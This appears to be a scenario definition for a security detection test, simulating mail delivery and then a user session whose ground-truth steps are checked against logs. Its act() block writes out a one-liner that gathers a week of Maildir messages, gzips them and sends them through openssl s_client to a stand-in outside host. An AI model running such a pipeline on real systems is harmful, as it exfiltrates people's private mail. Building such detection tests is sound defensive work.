# A pipeline of installed tools: find, xargs cat, gzip, openssl s_client.
title="Messages gathered by find and sent through openssl s_client"
what="The buyer's shell gathers all messages of the last week with find and cat, compresses them with gzip and sends them through openssl s_client to 203.0.113.66 port 443. Nothing is written to disk."
host=mx1.example.org user=buyer daemons="cron sshd" syslog_format=iso

act() {
  small_talk 5
  for n in 1 2 3; do mail_in --from "quotes$n@example.com" --to buyer@example.org --subject "Quote $n" --source 203.0.113.25 --helo smtp.example.com; done
  wait_mail buyer 3
  ssh_as buyer <<'L'
w
find Maildir -type f -mtime -7 -print0 | xargs -0 cat | gzip -9 | openssl s_client -quiet -connect drop.example.net:443 2>/dev/null
date
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'mail lies in the Maildir of buyer'
  exec_step gather 'find Maildir -type f' 'find lists the messages'
  file_step read 'cat openat:read NORMAL /home/buyer/Maildir/new/.+' 'cat reads them'
  exec_step send 'openssl s_client -quiet' 'the pipeline ends in a TLS client'
  net_step connect 'openssl 203.0.113.66:443' 'to an address outside'
}
